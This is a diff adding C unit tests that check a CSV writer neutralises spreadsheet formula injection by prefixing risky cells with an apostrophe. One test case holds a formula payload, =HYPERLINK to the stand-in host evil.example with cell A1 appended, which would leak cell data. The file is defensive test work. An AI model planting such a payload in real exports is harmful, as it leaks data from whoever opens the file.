@@ -4,6 +4,7 @@
 #include <stddef.h>
 #include <stdint.h>
 #include <cmocka.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
@@ -98,6 +99,65 @@ static void writing_quotes_what_needs_it(void **state)
     json_decref(rows);
 }
 
+/* The text csv_write gives for one row of one column holding `value` (JSON), without the
+ * header line. */
+static char *one_cell(const char *value_json)
+{
+    static const char *const columns[] = {"v"};
+    char row[512];
+    snprintf(row, sizeof row, "[{\"v\": %s}]", value_json);
+    json_t *rows = json_loads(row, 0, NULL);
+    assert_non_null(rows);
+    size_t len;
+    char *text = csv_write(rows, columns, 1, false, &len);
+    json_decref(rows);
+    assert_non_null(text);
+    char *cell = strdup(text + strlen("v\r\n"));
+    free(text);
+    return cell;
+}
+
+static void a_text_cell_a_spreadsheet_would_run_is_written_as_text(void **state)
+{
+    static const struct {
+        const char *json, *csv;
+    } cases[] = {
+        {"\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Xem\\\")\"",
+         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xem\"\")\"\r\n"},
+        {"\"+1+1\"", "'+1+1\r\n"},
+        {"\"-2+3\"", "'-2+3\r\n"},
+        {"\"@SUM(A1:A2)\"", "'@SUM(A1:A2)\r\n"},
+        {"\"\\tcmd\"", "'\tcmd\r\n"},
+        {"\"\\rcmd\"", "\"'\rcmd\"\r\n"},
+        {"\"Tuyên truyền = 3 buổi\"", "Tuyên truyền = 3 buổi\r\n"}, /* not at the start */
+        {"\"\"", "\r\n"},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        char *cell = one_cell(cases[i].json);
+        assert_string_equal(cell, cases[i].csv);
+        free(cell);
+    }
+}
+
+static void numbers_stay_numbers(void **state)
+{
+    static const struct {
+        const char *json, *csv;
+    } cases[] = {{"-5", "-5\r\n"},
+                 {"-0.5", "-0.5\r\n"},
+                 {"75.0", "75.0\r\n"},
+                 {"true", "true\r\n"},
+                 {"null", "\r\n"}};
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        char *cell = one_cell(cases[i].json);
+        assert_string_equal(cell, cases[i].csv);
+        free(cell);
+    }
+    assert_true(csv_is_formula_like("=1"));
+    assert_false(csv_is_formula_like(""));
+    assert_false(csv_is_formula_like("'=1"));
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -106,6 +166,8 @@ int main(void)
         cmocka_unit_test(quoted_fields),
         cmocka_unit_test(malformed_text_is_refused_with_its_line),
         cmocka_unit_test(writing_quotes_what_needs_it),
+        cmocka_unit_test(a_text_cell_a_spreadsheet_would_run_is_written_as_text),
+        cmocka_unit_test(numbers_stay_numbers),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
